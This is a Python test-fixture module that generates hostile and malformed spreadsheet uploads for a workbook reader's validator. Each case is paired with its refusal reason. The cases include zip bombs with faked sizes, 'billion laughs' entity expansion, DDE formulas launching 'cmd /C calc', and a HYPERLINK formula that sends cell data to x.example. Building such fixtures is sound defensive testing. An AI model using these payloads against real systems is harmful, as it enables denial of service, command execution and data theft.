"""Files that are no plain workbooks, or want to do harm: each with the reason for which it is refused.

:data:`HOSTILE` is by name: file name, what builds the content, and the reason (``WorkbookError.data``),
or None where the file is harmless after all and must be read.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import NamedTuple

from tests.factories import spreadsheets as write
from tests.factories.workbooks import Book, csv_of

MEGABYTE = 1024 * 1024
HEAD = ("社区代码", "总户数")
CODE = "990101001001"


class Hostile(NamedTuple):
    """A file as it is uploaded, and why it is refused (None: it is read)."""

    file_name: str
    content: Callable[[], bytes]
    reason: str | None


def good() -> bytes:
    """Return a plain workbook."""
    book = Book()
    book.page("社区", [HEAD, [CODE, 1]])
    return book.done()


def blank_book() -> bytes:
    """Return a workbook whose only sheet is blank."""
    book = Book()
    book.page("空", [])
    return book.done()


def sheet_with(cells: str, *, before: str = "", after: str = "") -> bytes:
    """Return a workbook whose sheet has a heading row, and these cells (XML) as the second row."""
    head = "".join(write.inline(f"{letter}1", text) for letter, text in zip("AB", HEAD, strict=True))
    rows = f'<row r="1">{head}</row><row r="2">{cells}</row>'
    return write.raw_xlsx(write.worksheet(rows, before=before, after=after))


def formula(text: str) -> Callable[[], bytes]:
    """Return what builds a workbook with a formula that has a harmless value."""
    cells = f'{write.inline("A2", CODE)}<c r="B2"><f>{text}</f><v>1</v></c>'
    return lambda: sheet_with(cells)


def with_part(name: str, content: bytes = b"x") -> Callable[[], bytes]:
    """Return what builds a plain workbook that has another part."""

    def built() -> bytes:
        buffer = io.BytesIO(good())
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr(name, content)
        return buffer.getvalue()

    return built


def bomb() -> bytes:
    """Return a file of a megabyte whose sheet is a gigabyte of blanks."""
    return _with_sheet(_deflated(1024), declared=1024 * MEGABYTE)


def lying_bomb() -> bytes:
    """Return the same, but its lists say that the sheet has a thousand bytes."""
    return _with_sheet(_deflated(1024), declared=1000)


def _deflated(megabytes: int) -> tuple[bytes, int]:
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    block, check, packed = b" " * MEGABYTE, 0, []
    packed.append(pack.compress(b"<worksheet>"))
    for _number in range(megabytes):
        packed.append(pack.compress(block))
        check = zlib.crc32(block, check)
    return b"".join([*packed, pack.flush()]), check


def _with_sheet(packed: tuple[bytes, int], *, declared: int) -> bytes:
    """Return a workbook whose sheet is these deflated bytes, said to be of this size."""
    name, (data, check) = b"xl/worksheets/sheet1.xml", packed
    rest = write.raw_xlsx("<worksheet/>")
    kept = {
        info.filename: zipfile.ZipFile(io.BytesIO(rest)).read(info)
        for info in zipfile.ZipFile(io.BytesIO(rest)).infolist()
        if info.filename.encode() != name
    }
    base = write.zipped(kept)
    end = base.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HLL", base[end + 10 : end + 20])
    common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, check, len(data), declared, len(name), 0)
    local = b"PK\x03\x04" + common + name + data
    listed = b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHLL", 0, 0, 0, 0, start) + name
    lists = base[start : start + size] + listed
    tail = struct.pack("<HHHHLLH", 0, 0, count + 1, count + 1, len(lists), start + len(local), 0)
    return base[:start] + local + lists + b"PK\x05\x06" + tail


def blank_rows(row: str) -> bytes:
    """Return a sheet with one row of data and a million formatted rows that say nothing."""
    blank = "".join(row.format(n=number) for number in range(3, 1_000_003))
    head = "".join(write.inline(f"{letter}1", text) for letter, text in zip("AB", HEAD, strict=True))
    data = f'<row r="1">{head}</row><row r="2">{write.inline("A2", CODE)}<c r="B2"><v>1</v></c></row>'
    return write.raw_xlsx(write.worksheet(data + blank))


def full_rows() -> bytes:
    """Return a sheet with a million rows of data."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 1_000_001))
    return write.raw_xlsx(write.worksheet(rows))


def unplaced() -> bytes:
    """Return a sheet of few bytes and vast extent whose cells do not say where they are."""
    wide, low = "<c><v>1</v></c>" * 16_000, "<row><c><v>1</v></c></row>" * 100_000
    return write.raw_xlsx(write.worksheet(f"<row>{wide}</row>{low}"))


def many_strings() -> bytes:
    """Return a workbook whose shared strings promise to be a thousand million."""
    strings = f'<sst xmlns="{write.MAIN}" uniqueCount="999999999999"><si><t>x</t></si></sst>'
    return write.raw_xlsx(write.worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=strings)


def laughing(part: str) -> bytes:
    """Return a workbook with entities that unfold a thousand million times, in one of its parts."""
    entities = '<!DOCTYPE lolz [<!ENTITY a "' + "x" * 1000 + '">' + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">'
        for before, after in zip("abcdefg", "bcdefgh", strict=True)
    ) + "]>"  # fmt: skip
    sheet = write.worksheet(f'<row r="1">{write.inline("A1", "社区代码").replace("社区代码", "&h;")}</row>')
    return write.raw_xlsx(sheet, replaced={part: (entities + sheet).encode()})


def ole(streams: Mapping[str, bytes], *, looped: bool = False) -> bytes:
    """Return a compound file, as .xls is kept in, with these streams; ``looped``: their chains never end."""
    sector, free, end, table = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    padded = {
        name: data.ljust(max(4096, -(-len(data) // sector) * sector), b"\0") for name, data in streams.items()
    }
    names = ["Root Entry", *padded]
    folders = -(-len(names) * 128 // sector)
    fat = [table, *range(2, folders + 1), end]
    starts, body = {}, b""
    for name, data in padded.items():
        starts[name] = len(fat)
        many = len(data) // sector
        fat += [*range(len(fat) + 1, len(fat) + many), starts[name] if looped else end]
        body += data
    listed = b""
    for number, name in enumerate(names):
        text = name.encode("utf-16-le")
        listed += struct.pack(
            "<64sHBBLLL16sLQQLQ",
            text, len(text) + 2, 5 if number == 0 else 2, 1, free,
            number + 1 if 0 < number < len(names) - 1 else free, 1 if number == 0 and padded else free,
            b"", 0, 0, 0, starts.get(name, end), len(padded.get(name, b"")),
        )  # fmt: skip
    header = struct.pack(
        "<8s16sHHHHH6sLLLLLLLLL",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"",
        0, 1, 1, 0, 4096, end, 0, end, 0,
    )  # fmt: skip
    header += struct.pack("<109L", 0, *[free] * 108)
    table_sector = struct.pack("<128L", *(fat + [free] * 128)[:128])
    return header + table_sector + listed.ljust(folders * sector, b"\0") + body


def records(*parts: tuple[int, bytes]) -> bytes:
    """Return the records of an old workbook."""
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in parts)


BOF = (0x0809, struct.pack("<HHHHLL", 0x0600, 5, 0, 0, 0, 0))
SHEET_BOF = (0x0809, struct.pack("<HHHHLL", 0x0600, 0x10, 0, 0, 0, 0))
EOF = (0x000A, b"")


def biff(*parts: tuple[int, bytes], sort: int = 0) -> bytes:
    """Return an .xls of one sheet with these records in it; ``sort`` 1 is a sheet of macros."""
    listed = (0x0085, struct.pack("<LBB", 0, 0, sort) + b"\x01\x00A")
    position = len(records(BOF, listed, EOF))
    listed = (0x0085, struct.pack("<LBB", position, 0, sort) + b"\x01\x00A")
    return ole({"Workbook": records(BOF, listed, EOF, SHEET_BOF, *parts, EOF)})


def xls_formula(code: bytes) -> bytes:
    """Return an .xls with a formula of these tokens."""
    head = struct.pack("<HHHdHL", 1, 1, 0, 1.0, 0, 0)
    return biff((0x0006, head + struct.pack("<H", len(code)) + code))


def string_token(text: str) -> bytes:
    """Return the token of a text in a formula."""
    return bytes([0x17, len(text), 0]) + text.encode("latin-1")


def hostile_ods(body: str) -> Callable[[], bytes]:
    """Return what builds an .ods with this table (XML)."""
    return lambda: write.ods(f'<table:table table:name="A">{body}</table:table>')


def endless_ods() -> bytes:
    """Return an .ods of few bytes with as many filled cells as a sheet can have."""
    row = write.ods_row(
        [write.ods_cell("x", 'table:number-columns-repeated="16384"')], 'table:number-rows-repeated="1048576"'
    )
    return hostile_ods(row)()


HTML = "<html><body><table><tr><td>社区代码</td></tr></table></body></html>".encode()
XML_2003 = b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>'
HYPERLINK = string_token("http://x.example/?d=") + b"\x42\x01\x67\x01"
INNER_LINK = string_token("#A!A1") + b"\x42\x01\x67\x01"

HOSTILE: dict[str, Hostile] = {
    "nothing": Hostile("a.xlsx", lambda: b"", "empty"),
    "blanks": Hostile("a.csv", lambda: b"\r\n \r\n", "empty"),
    "a workbook without cells": Hostile("a.xlsx", blank_book, "empty"),
    "only separators": Hostile("a.csv", lambda: b",,,\r\n,,,\r\n", "empty"),
    "a picture": Hostile("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "not_a_workbook"),
    "a document": Hostile("a.xlsx", lambda: write.zipped({"word/document.xml": b"<x/>"}), "not_a_workbook"),
    "a program": Hostile("a.xls", lambda: b"MZ" + bytes(100), "not_a_workbook"),
    "bytes as text": Hostile("a.csv", lambda: bytes(range(256)) * 10, "not_a_workbook"),
    "text of no encoding": Hostile("a.csv", lambda: b"\xff\xff\xfe,1\r\n" * 10, "encoding"),
    "a page as .xls": Hostile("a.xls", lambda: HTML, "markup"),
    "xml as .xls": Hostile("a.xls", lambda: XML_2003, "markup"),
    ".xlsx as .xls": Hostile("a.xls", good, "wrong_extension"),
    ".xlsx as .csv": Hostile("a.csv", good, "wrong_extension"),
    ".xls as .xlsx": Hostile("a.xlsx", lambda: write.xls({"A": [HEAD]}), "wrong_extension"),
    "binary .xlsb": Hostile("a.xlsb", lambda: write.zipped({"xl/workbook.bin": b"x"}), "old_format"),
    "cut off": Hostile("a.xlsx", lambda: good()[:-200], "damaged"),
    "half": Hostile("a.xlsx", lambda: good()[: len(good()) // 2], "damaged"),
    "half an .xls": Hostile("a.xls", lambda: write.xls({"A": [HEAD]})[:1000], "damaged"),
    "half an .ods": Hostile("a.ods", lambda: hostile_ods("")()[:-100], "damaged"),
    "garbage inside": Hostile(
        "a.xlsx", lambda: write.raw_xlsx("<worksheet><sheetData><row></worksheet>"), "damaged"
    ),
    "not even xml inside": Hostile("a.xlsx", lambda: write.raw_xlsx("hello"), "damaged"),
    "utf-16 inside": Hostile(
        "a.xlsx",
        lambda: write.raw_xlsx("", replaced={"xl/worksheets/sheet1.xml": "<worksheet/>".encode("utf-16")}),
        "damaged",
    ),
    "another workbook behind": Hostile(
        "a.xlsx",
        lambda: write.raw_xlsx(
            "<worksheet/>",
            replaced={
                "_rels/.rels": (
                    f'<R><Relationship Type="{write.LINKS}/officeDocument" Target="b.xml"/></R>'.encode()
                )
            },
        ),
        "damaged",
    ),
    "with a password": Hostile("a.xlsx", lambda: ole({"EncryptedPackage": b"x"}), "encrypted"),
    ".xls with a password": Hostile(
        "a.xls", lambda: ole({"Workbook": records(BOF, (0x2F, bytes(54)))}), "encrypted"
    ),
    ".ods with a password": Hostile(
        "a.ods",
        lambda: write.ods("", more={"META-INF/manifest.xml": b"<m><e><encryption-data/></e></m>"}),
        "encrypted",
    ),
    "a bomb": Hostile("a.xlsx", bomb, "too_large"),
    "a bomb that lies": Hostile("a.xlsx", lying_bomb, "too_large"),
    "strings without end": Hostile("a.xlsx", many_strings, "damaged"),
    "entities in a sheet": Hostile("a.xlsx", lambda: laughing("xl/worksheets/sheet1.xml"), "entities"),
    "entities in the workbook": Hostile("a.xlsx", lambda: laughing("xl/workbook.xml"), "entities"),
    "entities in the strings": Hostile("a.xlsx", lambda: laughing("xl/sharedStrings.xml"), "entities"),
    "entities in an .ods": Hostile(
        "a.ods",
        lambda: write.ods("", more={"content.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "entities",
    ),
    "a cell at the end": Hostile(
        "a.xlsx", lambda: sheet_with('<c r="XFD1048576"><v>1</v></c>'), "too_many_rows"
    ),
    "a prefixed cell at the end": Hostile(
        "a.xlsx", lambda: sheet_with('<x:c r="XFD1048576"><x:v>1</x:v></x:c>'), "too_many_rows"
    ),
    "a cell far down": Hostile("a.xlsx", lambda: sheet_with('<c r="B900000"><v>1</v></c>'), "too_many_rows"),
    "a cell far right": Hostile("a.xlsx", lambda: sheet_with('<c r="ZZ2"><v>1</v></c>'), "too_many_rows"),
    "cells nowhere": Hostile("a.xlsx", unplaced, "too_many_rows"),
    "a million rows": Hostile("a.xlsx", full_rows, "too_many_rows"),
    "a million blank rows": Hostile(
        "a.xlsx", lambda: blank_rows('<row r="{n}" s="1" customFormat="1"/>'), None
    ),
    "a million formatted cells": Hostile(
        "a.xlsx", lambda: blank_rows('<row r="{n}"><c r="A{n}" s="1"/><c r="B{n}" s="1"/></row>'), None
    ),
    "a million lines": Hostile("a.csv", lambda: b"1,2\r\n" * 1_000_000, "too_many_rows"),
    "lines without end": Hostile("a.csv", lambda: b'"' + b"x" * 5_000_000, "damaged"),
    "an .ods without end": Hostile("a.ods", endless_ods, "too_many_rows"),
    "spaces without end": Hostile(
        "a.ods",
        hostile_ods(
            '<table:table-row><table:table-cell office:value-type="string"><text:p>x'
            '<text:s text:c="9999999"/></text:p></table:table-cell></table:table-row>'
        ),
        None,
    ),
    "an .xls that turns in circles": Hostile(
        "a.xls", lambda: ole({"Workbook": records(BOF, EOF)}, looped=True), "damaged"
    ),
    "an .xls beyond its edge": Hostile(
        "a.xls", lambda: biff((0x0203, struct.pack("<HHHd", 65535, 65535, 0, 1.0))), "damaged"
    ),
    "dde": Hostile("a.xlsx", formula("cmd|'/C calc'!A0"), "formulas"),
    "dde with entities": Hostile("a.xlsx", formula("cmd|&apos;/C calc&apos;!A0"), "formulas"),
    "a link out": Hostile("a.xlsx", formula('HYPERLINK("http://x.example/?d="&amp;A2,"x")'), "formulas"),
    "a link inside": Hostile("a.xlsx", formula('HYPERLINK("#社区!A1","x")'), None),
    "a service": Hostile("a.xlsx", formula('_xlfn.WEBSERVICE("http://x.example")'), "formulas"),
    "another workbook": Hostile("a.xlsx", formula("[1]Sheet1!$A$1"), "formulas"),
    "another workbook by name": Hostile("a.xlsx", formula("'C:\\[报表.xlsx]一月'!A1"), "formulas"),
    "a table's own columns": Hostile("a.xlsx", formula("SUM(表1[[#This Row],[户数]])"), None),
    "a sum": Hostile("a.xlsx", formula("SUM(A1:A9)"), None),
    "a name that reaches out": Hostile(
        "a.xlsx",
        lambda: write.raw_xlsx(
            "<worksheet/>",
            workbook='<definedNames><definedName name="x">[1]A!$A$1</definedName></definedNames>',
        ),
        "external_links",
    ),
    "external links": Hostile("a.xlsx", with_part("xl/externalLinks/externalLink1.xml"), "external_links"),
    "connections": Hostile("a.xlsx", with_part("xl/connections.xml"), "external_links"),
    "macros": Hostile("a.xlsx", with_part("xl/vbaProject.bin"), "macros"),
    "macros by name": Hostile("a.xlsm", with_part("xl/vbaProject.bin"), "macros"),
    "a macro workbook without macros": Hostile("a.xlsm", good, "macros"),
    "a sheet of macros": Hostile("a.xlsx", with_part("xl/macrosheets/sheet1.xml"), "macros"),
    "controls": Hostile("a.xlsx", with_part("xl/activeX/activeX1.bin"), "macros"),
    "macros in an .xls": Hostile(
        "a.xls", lambda: ole({"Workbook": records(BOF, EOF), "_VBA_PROJECT_CUR": b"x"}), "macros"
    ),
    "a sheet of macros in an .xls": Hostile("a.xls", lambda: biff(sort=1), "macros"),
    "macros in an .ods": Hostile("a.ods", lambda: write.ods("", more={"Basic/a.xml": b"x"}), "macros"),
    "another workbook in an .xls": Hostile(
        "a.xls",
        lambda: ole({"Workbook": records(BOF, (0x01AE, b"\x01\x00\x06\x00\x00\x01b.xls"), EOF)}),
        "external_links",
    ),
    "a link out in an .xls": Hostile("a.xls", lambda: xls_formula(HYPERLINK), "formulas"),
    "a call in an .xls": Hostile("a.xls", lambda: xls_formula(b"\x1e\x01\x00\x42\x01\x96\x00"), "formulas"),
    "a service in an .ods": Hostile(
        "a.ods",
        hostile_ods(write.ods_row([write.ods_cell(1, 'table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"')])),
        "formulas",
    ),
    "another file in an .ods": Hostile(
        "a.ods",
        hostile_ods(write.ods_row([write.ods_cell(1, "table:formula=\"of:=['file:///b.ods'#$A.A1]\"")])),
        "formulas",
    ),
    "dde in an .ods": Hostile(
        "a.ods", hostile_ods("<table:dde-links><table:dde-link/></table:dde-links>"), "external_links"
    ),
    "dde in a .csv": Hostile("a.csv", lambda: csv_of([HEAD, [CODE, "=cmd|'/C calc'!A0"]]), "formulas"),
    "a minus in a .csv": Hostile("a.csv", lambda: csv_of([HEAD, [CODE, "-1"]]), None),
}  # fmt: skip
